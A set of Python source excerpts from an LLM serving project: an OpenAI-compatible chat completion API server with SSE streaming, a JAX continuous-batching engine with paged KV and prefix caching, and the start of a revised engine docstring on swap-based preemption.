    # per-request speculative-decoding controls (CompletionParams docs)
    speculation: bool = True
    max_draft_len: Optional[int] = None

    @classmethod
    def parse(cls, body: bytes | dict) -> "ChatRequest":
        try:
            d = body if isinstance(body, dict) else json.loads(body or b"{}")
        except json.JSONDecodeError as e:
            raise ApiError(400, f"invalid JSON: {e}") from e
        if not isinstance(d.get("messages"), list) or not d["messages"]:
            raise ApiError(400, "messages must be a non-empty list",
                           param="messages")
        for m in d["messages"]:
            if not isinstance(m, dict) or "role" not in m:
                raise ApiError(400, "each message needs a role",
                               param="messages")
            if m["role"] not in ("system", "user", "assistant", "tool"):
                raise ApiError(400, f"unknown role {m['role']!r}",
                               param="messages")
        p = CompletionParams.parse(d)
        stream = bool(d.get("stream", False))
        if stream and p.best_of != p.n:
            # ranking needs every completed sequence; a stream has to
            # start before cumulative logprobs exist (OpenAI/vLLM reject
            # this combination the same way)
            raise ApiError(400, "best_of > n cannot be streamed",
                           param="best_of")
        return cls(model=str(d.get("model", "")), messages=d["messages"],
                   max_tokens=p.max_tokens, temperature=p.temperature,
                   top_p=p.top_p,
                   stream=stream,
                   stop_token=p.stop_token,
                   user=str(d.get("user", "")),
                   cache_salt=str(d.get("cache_salt", "")),
                   n=p.n, best_of=p.best_of, seed=p.seed,
                   logprobs=p.logprobs, top_logprobs=p.top_logprobs,
                   speculation=p.speculation,
                   max_draft_len=p.max_draft_len)

    @property
    def params(self) -> CompletionParams:
        return CompletionParams(
            max_tokens=self.max_tokens, temperature=self.temperature,
            top_p=self.top_p, n=self.n,
            best_of=self.n if self.best_of is None else self.best_of,
            seed=self.seed, logprobs=self.logprobs,
            top_logprobs=self.top_logprobs,
            stop_token=self.stop_token, speculation=self.speculation,
            max_draft_len=self.max_draft_len)

    def prompt_text(self) -> str:
        return "\n".join(f"{m['role']}: {m.get('content', '')}"
                         for m in self.messages) + "\nassistant:"

    def system_prefix_text(self) -> str:
        """Rendering of the leading system messages — the part of the
        prompt that is byte-identical across every chat on this deployment
        and therefore the engine's prefix-cache working set.  Empty string
        when the conversation doesn't start with a system message."""
        head = []
        for m in self.messages:
            if m["role"] != "system":
                break
            head.append(f"{m['role']}: {m.get('content', '')}")
        return "\n".join(head) + "\n" if head else ""


def _completion_id(n: int) -> str:
    return f"chatcmpl-{n:012d}"


# ---------------------------------------------------------------------------
# SSE framing — the wire format of the whole streaming chain.  The engine
# backend frames each token with these helpers, the proxy/gateway relay the
# bytes untouched, and ``ApiServer.chat_completion_stream`` emits the same
# frames, so a client sees one format wherever the stream originated.
# ---------------------------------------------------------------------------

SSE_DONE = b"data: [DONE]\n\n"


def sse_chunk(cid: str, created: int, model: str, index: int,
              delta: dict, reason: Optional[str],
              token: Optional[int] = None,
              logprob: Optional[float] = None,
              top_logprobs: Optional[list] = None) -> bytes:
    """One ``data: {...}\\n\\n`` chat.completion.chunk frame.  ``token``
    (an extension field, ignored by OpenAI clients) carries the raw token
    id so sim-side consumers can reassemble exact token sequences.
    ``logprob``, when the request asked for logprobs, renders the
    OpenAI-shaped per-choice ``logprobs.content`` entry for this delta;
    ``top_logprobs`` (a list of pre-rendered {token, logprob} dicts)
    attaches the k-alternatives array to that entry."""
    choice = {"index": index, "delta": delta, "finish_reason": reason}
    if token is not None:
        choice["token"] = int(token)
    if logprob is not None:
        entry = {
            "token": delta.get("content", ""),
            "logprob": float(logprob),
        }
        if top_logprobs is not None:
            entry["top_logprobs"] = top_logprobs
        choice["logprobs"] = {"content": [entry]}
    return ("data: " + json.dumps({
        "id": cid, "object": "chat.completion.chunk", "created": created,
        "model": model, "choices": [choice],
    }) + "\n\n").encode()


def parse_sse(payload: bytes) -> list:
    """Parse a concatenation of SSE frames back into event dicts; the
    ``[DONE]`` sentinel comes back as the string ``"[DONE]"``."""
    events = []
    for block in payload.split(b"\n\n"):
        if not block.strip():
            continue
        assert block.startswith(b"data: "), block
        data = block[len(b"data: "):]
        events.append("[DONE]" if data == b"[DONE]"
                      else json.loads(data))
    return events


def default_token_decode(tokens) -> str:
    """Tokenizer-free rendering used by sim backends: concatenative per
    token, so the join of streamed single-token deltas is byte-identical
    to decoding the whole sequence at once."""
    return "".join(f"<{int(t)}>" for t in tokens)


@dataclass
class ApiServer:
    """Engine + tokenizer -> OpenAI wire format."""

    engine: Engine
    encode: Callable[[str], "list[int]"]
    decode: Callable[[list[int]], str]
    model_name: str = "chat-ai"
    created: int = field(default_factory=lambda: int(time.time()))
    _n: int = 0
    _metrics: Optional[object] = None

    def _submit(self, req: ChatRequest) -> int:
        import numpy as np
        ids = np.asarray(self.encode(req.prompt_text()), np.int32)
        room = self.engine.max_model_len - req.max_tokens
        if room <= 0:
            raise ApiError(400, "max_tokens exceeds model context")
        if len(ids) > room:
            # Truncate the conversation *middle*, never the system-prompt
            # head: chopping tokens off the front would shift the shared
            # prefix per-request and defeat the engine's prefix cache.
            head = np.asarray(self.encode(req.system_prefix_text()),
                              np.int32)
            if 0 < len(head) < room and np.array_equal(
                    ids[:len(head)], head):
                ids = np.concatenate([head, ids[-(room - len(head)):]])
            else:
                ids = ids[-room:]
        try:
            return self.engine.submit(ids, req.params.to_sampling(),
                                      cache_salt=req.cache_salt)
        except ValueError as e:
            # engine-side validation (empty prompt, length budget,
            # best_of vs batch capacity) is the backstop behind the API's
            # own checks — surface it as a 400, never a 500
            raise ApiError(400, str(e)) from e

    def _finish_reason(self, r, req: ChatRequest) -> str:
        # an engine-truncated sequence (OutOfBlocks bow-out) did not
        # choose to stop: report "length" (cut by a limit), never "stop"
        if r.truncated or len(r.output) >= req.max_tokens:
            return "length"
        return "stop"

    def chat_completion(self, body: bytes | dict) -> dict:
        req = ChatRequest.parse(body)
        rid = self._submit(req)
        group = self.engine.group_of(rid)
        while not group.finished:
            self.engine.step()
        leader = self.engine.requests[rid]
        # the n best completions of the group's best_of sequences, by
        # cumulative logprob (choice index 0 is the best — OpenAI only
        # promises an unordered set, so best-first is the useful order)
        ranked = group.best(req.n)
        self._n += 1

        def choice_logprobs(r):
            # OpenAI shape: one content entry per generated token, the
            # engine-recorded (unscaled) logprob of the chosen token —
            # plus, when top_logprobs was requested, the k most likely
            # alternatives the engine exported alongside that draw
            if not req.logprobs:
                return None
            content = []
            for j, (t, lp) in enumerate(zip(r.output, r.token_logprobs)):
                entry = {"token": self.decode([t]), "logprob": float(lp)}
                if req.top_logprobs:
                    entry["top_logprobs"] = [
                        {"token": self.decode([tt]), "logprob": float(v)}
                        for tt, v in r.top_logprobs[j]]
                content.append(entry)
            return {"content": content}

        drafted = sum(int(r.drafted_tokens) for r in group.requests)
        accepted = sum(int(r.accepted_tokens) for r in group.requests)
        return {
            "id": _completion_id(self._n),
            "object": "chat.completion",
            "created": self.created,
            "model": req.model or self.model_name,
            "choices": [{
                "index": i,
                "message": {"role": "assistant",
                            "content": self.decode(r.output)},
                "logprobs": choice_logprobs(r),
                "finish_reason": self._finish_reason(r, req),
            } for i, r in enumerate(ranked)],
            "usage": {
                # group-level accounting: the prompt was prefilled (and
                # its KV allocated) exactly once, however many sequences
                # sampled from it; completion tokens count every best_of
                # sequence that was actually decoded
                "prompt_tokens": int(len(leader.prompt)),
                "completion_tokens": sum(len(r.output)
                                         for r in group.requests),
                "total_tokens": int(len(leader.prompt)) + sum(
                    len(r.output) for r in group.requests),
                # OpenAI-compatible cached-prefix accounting; clamp to the
                # prompt — after a preemption the engine's re-admit can hit
                # on its own generated blocks too, which this field (prompt
                # cache hits only) must not count
                "prompt_tokens_details": {
                    "cached_tokens": min(int(leader.cached_tokens),
                                         int(len(leader.prompt)))},
                # extension (clients ignore unknown keys): how often this
                # group's sequences were preempted under memory pressure,
                # and how many of those preemptions resumed from the
                # host-swapped KV instead of recomputing it
                "preemptions": sum(int(r.preemptions)
                                   for r in group.requests),
                "swapped_preemptions": sum(int(r.swap_preemptions)
                                           for r in group.requests),
                # extension: self-speculative decoding accounting — how
                # many draft tokens the engine verified for this group
                # and how many survived (committed without recompute)
                "drafted_tokens": drafted,
                "accepted_tokens": accepted,
                "acceptance_rate": round(accepted / drafted, 4)
                if drafted else 0.0,
            },
        }

    def chat_completion_stream(self, body: bytes | dict) -> Iterator[bytes]:
        """SSE chunks: ``data: {...}\\n\\n`` terminated by [DONE].

        With ``n > 1`` every sequence of the group streams under its own
        choice ``index``, chunks interleaving as tokens arrive (sequences
        fork only once the shared prompt prefill completes, so indexes
        above 0 start a little later).  Ranking a ``best_of`` superset is
        impossible mid-stream, which is why parse() rejects
        ``best_of > n`` for streams."""
        req = ChatRequest.parse(body)
        rid = self._submit(req)
        group = self.engine.group_of(rid)
        self._n += 1
        cid = _completion_id(self._n)

        def chunk(index, delta, reason, logprob=None, top=None):
            return sse_chunk(cid, self.created,
                             req.model or self.model_name,
                             index, delta, reason, logprob=logprob,
                             top_logprobs=top)

        sent: dict[int, int] = {}
        while True:
            # group.requests grows when the group is admitted (children
            # bind at admission) — enumerate afresh each drain
            for idx, r in enumerate(group.requests):
                s = sent.get(r.req_id, 0)
                while s < len(r.output):
                    delta = self.decode(r.output[s:s + 1])
                    lp = float(r.token_logprobs[s]) if req.logprobs \
                        else None
                    tl = None
                    if req.logprobs and req.top_logprobs:
                        tl = [{"token": self.decode([tt]),
                               "logprob": float(v)}
                              for tt, v in r.top_logprobs[s]]
                    s += 1
                    yield chunk(idx, {"content": delta}, None, lp, tl)
                sent[r.req_id] = s
            if group.finished:
                break
            self.engine.step()
        for idx, r in enumerate(group.requests):
            yield chunk(idx, {}, self._finish_reason(r, req))
        yield b"data: [DONE]\n\n"

    def models(self) -> dict:
        return {"object": "list",
                "data": [{"id": self.model_name, "object": "model",
                          "created": self.created, "owned_by": "chat-ai"}]}

    def metrics_text(self) -> str:
        """Prometheus exposition of engine + prefix-cache stats (scraped
        by the paper's Grafana stack, §5.9)."""
        if self._metrics is None:
            from repro.core.monitoring import Metrics
            self._metrics = Metrics()
        self.engine.publish_metrics(self._metrics)
        return self._metrics.render_prometheus()
