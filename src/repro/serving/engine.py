"""Continuous-batching LLM engine (the vLLM-analogue layer, paper §5.7).

Request lifecycle: submit → WAITING → (admitted, blocks allocated — shared
prefix blocks referenced from the prefix cache, only the uncached suffix
prefilled, optionally in fixed-size chunks interleaved with decode steps)
→ RUNNING (decoded one token per engine step alongside every other running
sequence) → FINISHED (blocks dereferenced; full blocks stay in the prefix
cache for the next request with the same prefix).  When a decode step
cannot grab a new block, the youngest running sequence is preempted back to
WAITING with its references dropped (vLLM's recompute-preemption policy) —
its still-cached prefix makes the re-prefill cheap.

Physical KV storage is paged for standard-attention layers (per-layer block
pools + block tables; see ``kv_cache.py``); SSM/conv states and MLA latent /
cross-attention caches are per-slot tensors.  Engine steps are jitted with
static shapes (slot count, pool size), so continuous batching causes no
recompilation.
"""
from __future__ import annotations

import itertools
import time
from dataclasses import dataclass, field
from enum import Enum
from functools import partial
from typing import Optional

import jax
import jax.numpy as jnp
import numpy as np

from repro.models import forward, init_cache, logits_last
from repro.models.config import ModelConfig
from repro.models.model import cache_defs
from repro.models.params import is_def, tree_map_defs
from repro.serving.kv_cache import BlockManager, OutOfBlocks
from repro.serving.sampling import SamplingParams, sample


class ReqState(str, Enum):
    WAITING = "waiting"
    RUNNING = "running"
    FINISHED = "finished"


@dataclass
class EngineRequest:
    req_id: int
    prompt: np.ndarray                   # [S] int32
    params: SamplingParams
    state: ReqState = ReqState.WAITING
    slot: int = -1
    output: list[int] = field(default_factory=list)
    preemptions: int = 0
    t_submit: float = 0.0
    t_first_token: Optional[float] = None
    t_finish: Optional[float] = None
    cache_salt: str = ""                 # prefix-cache isolation key
    cached_tokens: int = 0               # prefix-cache hits at last admit
    prefill_pos: int = 0                 # tokens prefilled in current run
    prefill_target: int = 0              # tokens to prefill in current run

    @property
    def total_len(self) -> int:
        return len(self.prompt) + len(self.output)

    @property
    def prefilling(self) -> bool:
        return self.state == ReqState.RUNNING and \
            self.prefill_pos < self.prefill_target


def _paged_cache_defs(cfg: ModelConfig, n_slots: int, max_len: int,
                      num_blocks: int, block_size: int):
    """Cache defs where GQA attention layers get global block pools."""
    import dataclasses as dc
    defs = cache_defs(cfg, n_slots, max_len)

    def fix(d):
        if not isinstance(d, dict):
            return d
        out = {}
        for k, v in d.items():
            if k in ("k", "v") and is_def(v):
                # [B, S, KV, hd] -> pool [NB+1, bs, KV, hd] (+1 scratch)
                pool_shape = (v.shape[0], num_blocks + 1, block_size,
                              *v.shape[3:]) if v.dims[0] == "layers" else (
                              num_blocks + 1, block_size, *v.shape[2:])
                dims = (("layers", "kv_blocks", "kv_block_size")
                        + v.dims[3:]) if v.dims[0] == "layers" else (
                        ("kv_blocks", "kv_block_size") + v.dims[2:])
                out[k + "_pool"] = dc.replace(v, shape=pool_shape, dims=dims)
            elif is_def(v):
                out[k] = v
            else:
                out[k] = fix(v)
        return out
    return fix(defs)


class Engine:
    def __init__(self, cfg: ModelConfig, params, *,
                 max_num_seqs: int = 4,
                 max_model_len: int = 512,
                 block_size: int = 16,
                 num_blocks: Optional[int] = None,
                 dtype=jnp.float32,
                 seed: int = 0,
                 clock=None,
                 enable_prefix_caching: bool = True,
                 prefill_chunk_size: Optional[int] = None):
        self.cfg = cfg
        self.params = params
        self.n_slots = max_num_seqs
        self.max_model_len = max_model_len
        self.paged = cfg.mla is None and not cfg.is_attention_free
        self.block_size = block_size
        # prefix caching / chunked prefill need pure block-structured GQA
        # state: SSM/conv states and cross-attn caches are not paged (and
        # can't restart mid-prompt), and vision inputs are not captured by
        # the token-id prefix keys
        structural_ok = (self.paged and not cfg.has_ssm
                         and not cfg.cross_attention
                         and not cfg.vision_embed_dim)
        self.prefix_caching = enable_prefix_caching and structural_ok
        if prefill_chunk_size is not None and structural_ok:
            # chunks must cover whole blocks so chunk boundaries stay
            # block-aligned for the pool gather; chunking works with
            # caching disabled — it only needs the paged pool
            self.prefill_chunk: Optional[int] = max(
                -(-prefill_chunk_size // block_size) * block_size,
                block_size)
        else:
            self.prefill_chunk = None
        if num_blocks is None:
            num_blocks = max_num_seqs * (max_model_len // block_size)
        self.bm = BlockManager(num_blocks, block_size,
                               enable_prefix_caching=self.prefix_caching)
        self.max_blocks_per_seq = max_model_len // block_size
        self.dtype = dtype
        self.clock = clock
        self._key = jax.random.key(seed)
        self._ids = itertools.count(1)
        self.requests: dict[int, EngineRequest] = {}
        self.waiting: list[int] = []
        self.running: list[int] = []     # req ids, oldest first
        self._slots: list[Optional[int]] = [None] * max_num_seqs
        self.steps = 0
        self.decode_tokens = 0
        self.prefill_tokens_computed = 0

        if self.paged:
            defs = _paged_cache_defs(cfg, max_num_seqs, max_model_len,
                                     num_blocks, block_size)
        else:
            defs = cache_defs(cfg, max_num_seqs, max_model_len)
        self.cache = tree_map_defs(
            lambda d: jnp.zeros(
                d.shape, jnp.float32 if d.dtype == "state" else dtype), defs)
        # per-slot block tables; scratch block = num_blocks
        self._tables = np.full((max_num_seqs, self.max_blocks_per_seq),
                               num_blocks, np.int32)
        self._positions = np.zeros((max_num_seqs,), np.int32)
        self._decode_fn = jax.jit(partial(self._decode_impl, cfg))

    # ------------------------------------------------------------------
    def _now(self) -> float:
        return self.clock.now() if self.clock else time.monotonic()

    def submit(self, prompt, params: SamplingParams | None = None, *,
               cache_salt: str = "") -> int:
        params = params or SamplingParams()
        prompt = np.asarray(prompt, np.int32)
        assert prompt.ndim == 1 and len(prompt) > 0
        assert len(prompt) + params.max_new_tokens <= self.max_model_len, \
            "request exceeds max_model_len"
        r = EngineRequest(next(self._ids), prompt, params,
                          t_submit=self._now(), cache_salt=cache_salt)
        self.requests[r.req_id] = r
        self.waiting.append(r.req_id)
        return r.req_id

    # ----- scheduling -----

    def _free_slot(self) -> Optional[int]:
        for i, s in enumerate(self._slots):
            if s is None:
                return i
        return None

    def _admit(self) -> Optional[EngineRequest]:
        """Admit the head of the queue: bind a slot, allocate blocks (taking
        references on any cached prefix instead of copying), and queue the
        prefill — the suffix actually runs in ``step()`` so long prompts can
        be chunked between decode iterations."""
        if not self.waiting:
            return None
        slot = self._free_slot()
        if slot is None:
            return None
        rid = self.waiting[0]
        r = self.requests[rid]
        # re-prefill includes previously generated tokens (recompute policy)
        need = r.total_len
        token_ids = None
        if self.prefix_caching:
            token_ids = [int(t) for t in r.prompt] + list(r.output)
        cached = 0
        if self.paged:
            # attempt-and-catch: allocate raises before mutating anything,
            # and this way the prefix walk happens once, not twice
            try:
                blocks = self.bm.allocate(rid, need, token_ids=token_ids,
                                          salt=r.cache_salt or None,
                                          prompt_tokens=len(r.prompt))
            except OutOfBlocks:
                return None
            cached = self.bm.cached_tokens(rid)
        self.waiting.pop(0)
        r.state = ReqState.RUNNING
        r.slot = slot
        self._slots[slot] = rid
        self.running.append(rid)
        if self.paged:
            self._tables[slot, :] = self.bm.num_blocks   # scratch
            self._tables[slot, :len(blocks)] = blocks
        r.cached_tokens = cached
        r.prefill_pos = cached
        r.prefill_target = need
        self._positions[slot] = need - 1
        return r

    def _preempt_youngest(self) -> None:
        rid = self.running[-1]
        r = self.requests[rid]
        self._evict(r)
        r.state = ReqState.WAITING
        r.preemptions += 1
        self.waiting.insert(0, rid)

    def _evict(self, r: EngineRequest) -> None:
        self.running.remove(r.req_id)
        self._slots[r.slot] = None
        self._tables[r.slot, :] = self.bm.num_blocks
        if self.paged:
            self.bm.free(r.req_id)
        r.slot = -1

    # ----- model calls -----

    def _slot_extras(self, tokens_shape) -> dict:
        ex = {}
        if self.cfg.vision_embed_dim:
            B, S = tokens_shape
            ex["patch_embeds"] = jnp.zeros((B, S, self.cfg.vision_embed_dim),
                                           self.dtype)
            ex["vision_mask"] = jnp.zeros((B, S), bool)
        if self.cfg.cross_attention:
            B = tokens_shape[0]
            ex["encoder_frames"] = jnp.zeros(
                (B, self.cfg.num_encoder_frames, self.cfg.d_model),
                self.dtype)
        return ex

    def _prefill_chunk(self, r: EngineRequest) -> bool:
        """Run one prefill piece for ``r`` (B=1 slice written into the
        global cache): tokens [prefill_pos, min(pos+chunk, target)).  The
        cached prefix (and earlier chunks) is attended to via the block
        pool, never recomputed.  Returns True when prefill completed — the
        last chunk samples the first output token."""
        start, target = r.prefill_pos, r.prefill_target
        limit = self.prefill_chunk or (target - start)
        end = min(start + limit, target)
        toks = np.concatenate([r.prompt, np.asarray(r.output, np.int32)])
        chunk = toks[start:end]
        true_len = end - start
        pad = -(-true_len // self.block_size) * self.block_size \
            if self.paged else true_len
        padded = np.zeros((pad,), np.int32)
        padded[:true_len] = chunk
        tokens = jnp.asarray(padded)[None]
        positions = jnp.arange(start, start + pad)[None]
        extras = self._slot_extras((1, pad))
        if self.paged:
            extras["block_table"] = jnp.asarray(self._tables[r.slot])[None]
            extras["kv_lengths"] = jnp.asarray([end])
            extras["prefix_len"] = start        # block-aligned by design

        slot_cache = self._slice_cache(r.slot)
        hidden, new_cache, _ = forward(
            self.cfg, self.params, tokens, positions=positions,
            mode="prefill", cache=slot_cache, extras=extras)
        self._write_cache(r.slot, new_cache)
        r.prefill_pos = end
        self.prefill_tokens_computed += true_len
        if self.paged:
            self.bm.mark_filled(r.req_id, end)
        if end < target:
            return False
        logits = logits_last(self.cfg, self.params,
                             hidden[:, true_len - 1:true_len])
        tok = self._sample_one(logits, r.params)
        self._append(r, tok)
        return True

    def _slice_cache(self, slot):
        """Per-slot [1, ...] view of the cache; block pools stay global.
        Leaves under 'blocks' are layer-stacked (slot dim is axis 1)."""
        return _cache_slice_slot(self.cache, slot)

    def _write_cache(self, slot, new_cache):
        self.cache = _cache_write_slot(self.cache, new_cache, slot)

    def _decode_impl(self, cfg, params, cache, tokens, positions, tables,
                     active, key, temps):
        extras = self._slot_extras(tokens.shape)
        if self.paged:
            # inactive slots write to the scratch block
            extras["block_table"] = jnp.where(
                active[:, None], tables, self.bm.num_blocks)
        hidden, new_cache, _ = forward(cfg, params, tokens,
                                       positions=positions, mode="decode",
                                       cache=cache, extras=extras)
        logits = logits_last(cfg, params, hidden)
        greedy = jnp.argmax(logits, axis=-1)
        scaled = sample(logits / jnp.maximum(temps[:, None], 1e-6), key,
                        temperature=1.0)
        toks = jnp.where(temps > 0, scaled, greedy)
        return new_cache, toks

    def _sample_one(self, logits, sp: SamplingParams) -> int:
        self._key, k = jax.random.split(self._key)
        t = sample(logits, k, sp.temperature, sp.top_k, sp.top_p)
        return int(t[0])

    def _append(self, r: EngineRequest, token: int) -> None:
        r.output.append(int(token))
        if r.t_first_token is None:
            r.t_first_token = self._now()
        sp = r.params
        if (len(r.output) >= sp.max_new_tokens
                or token == sp.stop_token):
            self._finish(r)
        elif self.paged and r.state == ReqState.RUNNING:
            try:
                newblk = self.bm.append_token(r.req_id, token_id=int(token))
                if newblk is not None:
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk
            except OutOfBlocks:
                # grab back a block by preempting the youngest other seq
                if self.running[-1] != r.req_id:
                    self._preempt_youngest()
                    newblk = self.bm.append_token(r.req_id,
                                                  token_id=int(token))
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk
                else:
                    self._finish(r)   # nothing to steal from

    def _finish(self, r: EngineRequest) -> None:
        if r.state == ReqState.RUNNING:
            self._evict(r)
        elif r.state == ReqState.WAITING and r.req_id in self.waiting:
            # preempted earlier this step, then hit a stop condition on the
            # token computed before preemption — don't re-admit it
            self.waiting.remove(r.req_id)
        r.state = ReqState.FINISHED
        r.t_finish = self._now()

    # ----- the continuous-batching loop -----

    def step(self) -> int:
        """One engine iteration; returns number of tokens produced.

        Order of play: admit whatever fits (allocation only), run prefill
        work — one chunk per prefilling sequence when chunking is on, the
        whole remaining suffix otherwise — then run one batched decode over
        every fully-prefilled running sequence.  Chunking therefore bounds
        how long a monster prompt can stall everyone else's next token.
        """
        self.steps += 1
        produced = 0
        while True:
            r = self._admit()
            if r is None:
                break
            # unchunked: prefill inline before admitting the next request,
            # so simultaneously-arriving requests with a common prefix
            # find each other's freshly-registered blocks (intra-batch
            # sharing); chunked admissions defer to the loop below
            if self.prefill_chunk is None and r.prefilling \
                    and self._prefill_chunk(r):
                produced += 1
        # chunked prefill work (oldest first), one piece per sequence per
        # step; completion samples the first token
        for rid in list(self.running):
            r = self.requests[rid]
            if r.prefilling and self._prefill_chunk(r):
                produced += 1
        # batched decode over fully-prefilled running sequences
        decodable = [rid for rid in self.running
                     if not self.requests[rid].prefilling]
        if not decodable:
            return produced
        tokens = np.zeros((self.n_slots, 1), np.int32)
        active = np.zeros((self.n_slots,), bool)
        temps = np.zeros((self.n_slots,), np.float32)
        slots = {}                       # snapshot: preemption may unbind
        batch = []
        for rid in decodable:
            r = self.requests[rid]
            if r.state != ReqState.RUNNING:
                continue                 # preempted by an earlier COW
            if self.paged:
                # copy-on-write before scattering into a shared tail block
                try:
                    cow = self.bm.cow_if_shared(rid, r.total_len - 1)
                except OutOfBlocks:
                    # same recovery as the append path: steal from the
                    # youngest other sequence, else bow out
                    if self.running[-1] != rid:
                        self._preempt_youngest()
                        cow = self.bm.cow_if_shared(rid, r.total_len - 1)
                    else:
                        self._finish(r)
                        continue
                if cow is not None:
                    src, dst = cow
                    self.cache = _pool_copy_block(self.cache, src, dst)
                    nb = r.total_len - 1
                    self._tables[r.slot, nb // self.block_size] = dst
            tokens[r.slot, 0] = r.output[-1]
            active[r.slot] = True
            temps[r.slot] = r.params.temperature
            self._positions[r.slot] = r.total_len - 1
            slots[rid] = r.slot
            batch.append(rid)
        if not batch:
            return produced
        self._key, k = jax.random.split(self._key)
        self.cache, toks = self._decode_fn(
            self.params, self.cache, jnp.asarray(tokens),
            jnp.asarray(self._positions), jnp.asarray(self._tables),
            jnp.asarray(active), k, jnp.asarray(temps))
        toks = np.asarray(toks)
        for rid in batch:
            r = self.requests[rid]
            if self.paged:
                # the KV for output[-1] landed in the pool this step
                self.bm.mark_filled(rid, r.total_len)
            # use the snapshotted slot: a preemption triggered by an earlier
            # append in this loop unbinds slots, but the token was computed
            self._append(r, int(toks[slots[rid]]))
            produced += 1
            self.decode_tokens += 1
        return produced

    def generate(self, prompt, max_new_tokens: int = 32,
                 temperature: float = 0.0,
                 cache_salt: str = "") -> list[int]:
        rid = self.submit(prompt, SamplingParams(
            temperature=temperature, max_new_tokens=max_new_tokens),
            cache_salt=cache_salt)
        while self.requests[rid].state != ReqState.FINISHED:
            self.step()
        return self.requests[rid].output

    def has_work(self) -> bool:
        return bool(self.waiting or self.running)

    # ----- prefix-cache telemetry -----

    def prefix_cache_stats(self) -> dict:
        """Counters for the paper's Grafana stack (via core/monitoring.py):
        hit/miss prefill tokens, COW copies, evictions, plus how many
        blocks currently sit in the reusable refcount-0 pool."""
        d = self.bm.stats.as_dict()
        d["cached_blocks"] = self.bm.cached_blocks
        d["registered_keys"] = len(self.bm.cached_block_keys())
        d["prefill_tokens_computed"] = self.prefill_tokens_computed
        d["enabled"] = int(self.prefix_caching)
        return d

    def cached_block_keys(self) -> list[str]:
        """Serializable keys of every prefix-cache block resident on this
        instance — what a service job publishes to the scheduler's
        cross-instance prefix index on each heartbeat."""
        return self.bm.cached_block_keys()

    def publish_metrics(self, metrics) -> None:
        """Push engine + prefix-cache stats into a core.monitoring.Metrics
        registry (Prometheus exposition happens there)."""
        s = self.prefix_cache_stats()
        metrics.sync_totals(
            counters={
                "engine_prefix_cache_hit_tokens_total": s["hit_tokens"],
                "engine_prefix_cache_miss_tokens_total": s["miss_tokens"],
                "engine_prefix_cache_cow_copies_total": s["cow_copies"],
                "engine_prefix_cache_evictions_total": s["evictions"],
                "engine_prefix_cache_collision_rejects_total":
                    s["collision_rejects"],
                "engine_prefill_tokens_computed_total":
                    s["prefill_tokens_computed"],
                "engine_decode_tokens_total": self.decode_tokens,
            },
            gauges={
                "engine_prefix_cache_blocks": s["cached_blocks"],
                "engine_prefix_cache_registered_keys": s["registered_keys"],
                "engine_free_blocks": self.bm.free_blocks,
                "engine_running_seqs": len(self.running),
                "engine_waiting_seqs": len(self.waiting),
            })


# ---------------------------------------------------------------------------
# cache tree helpers: slot-dim is axis 0 for prefix leaves, axis 1 for
# layer-stacked ('blocks') leaves; '*_pool' leaves are global (paged).
# ---------------------------------------------------------------------------

def _cache_slice_slot(cache, slot):
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = v
            else:
                ax = 1 if stacked else 0
                out[k] = jax.lax.dynamic_slice_in_dim(v, slot, 1, axis=ax)
        return out
    return walk(cache, False)


def _pool_copy_block(cache, src, dst):
    """Copy one physical block (all layers, K and V) inside the global
    pools — the data half of copy-on-write."""
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                ax = 1 if stacked else 0
                blk = jax.lax.dynamic_slice_in_dim(v, src, 1, axis=ax)
                out[k] = jax.lax.dynamic_update_slice_in_dim(
                    v, blk, dst, axis=ax)
            else:
                out[k] = v
        return out
    return walk(cache, False)


def _cache_write_slot(cache, new, slot):
    def walk(d, n, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, n[k], stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = n[k]
            else:
                ax = 1 if stacked else 0
                out[k] = jax.lax.dynamic_update_slice_in_dim(
                    v, n[k].astype(v.dtype), slot, axis=ax)
        return out
    return walk(cache, new, False)
