"""Continuous-batching LLM engine (the vLLM-analogue layer, paper §5.7).

Request lifecycle: submit → WAITING → (admitted, blocks allocated — shared
prefix blocks referenced from the prefix cache, only the uncached suffix
prefilled, optionally in fixed-size chunks interleaved with decode steps)
→ RUNNING (decoded one token per engine step alongside every other running
sequence) → FINISHED (blocks dereferenced; full blocks stay in the prefix
cache for the next request with the same prefix).  When a decode step
cannot grab a new block, a younger sequence is preempted.  The victim is
the youngest *fully-prefilled* younger sequence when one exists:
preempting a sequence mid-chunked-prefill would throw away chunks it
already computed.

Preemption is policy-driven (DESIGN.md §"Swap-based preemption").  With a
host pool configured (``swap_blocks`` / ``--swap-space``) the victim's
non-shared KV blocks are gathered to a host buffer and the request parks
in SWAPPED; re-admission — which prefers SWAPPED work over cold WAITING
work — scatters them back into fresh blocks and resumes decoding where it
left off, so a long generation survives pressure without paying
O(generated tokens) again.  When the host pool is full (or swap is off)
the victim falls back to WAITING with its references dropped (vLLM's
recompute-preemption policy) — its still-cached prefix softens the
re-prefill.

Physical cache storage follows the per-leaf contract every model declares
through ``cache_leaf_specs`` (models/model.py).  ``paged_pool`` leaves —
GQA KV *and* MLA latent/rope vectors — are repacked into refcounted block
pools + block tables (see ``kv_cache.py``), optionally quantized to
fp8_e4m3/int8 with one f32 scale per token row in a sibling
``*_scale_pool`` (``kv_dtype=``, roughly doubling resident blocks at the
same ``--swap-space``).  ``per_slot_state`` leaves (Mamba conv window +
SSD state) stay device-resident ``[max_num_seqs, ...]`` carries: prefill
executables reset them per freshly-admitted row (``state_reset``), mask
right-padding (``seq_valid``) and inactive rows (``slot_active``), and a
preemption checkpoints them as ONE opaque host record so swap resumes
bit-exactly.  ``cross_attn_kv`` leaves (encoder KV) are written in full by
every prefill and read-only at decode — on resume they are re-prefilled,
never offloaded.

Hot path (DESIGN.md §"Engine hot path"): for every cache family the
per-step compute is a small fixed set of jitted XLA executables with
**donated** cache buffers, so the multi-GB pool is updated in place
instead of copied per step:

* prefill runs as one batched executable over *bucketed* padded shapes
  (powers-of-two block multiples), with ``prefix_len`` / ``true_len`` /
  ``kv_lengths`` as traced per-row scalars — compile count is O(#buckets),
  never O(#distinct chunk offsets);
* copy-on-write block copies and the token scatter happen *inside* the
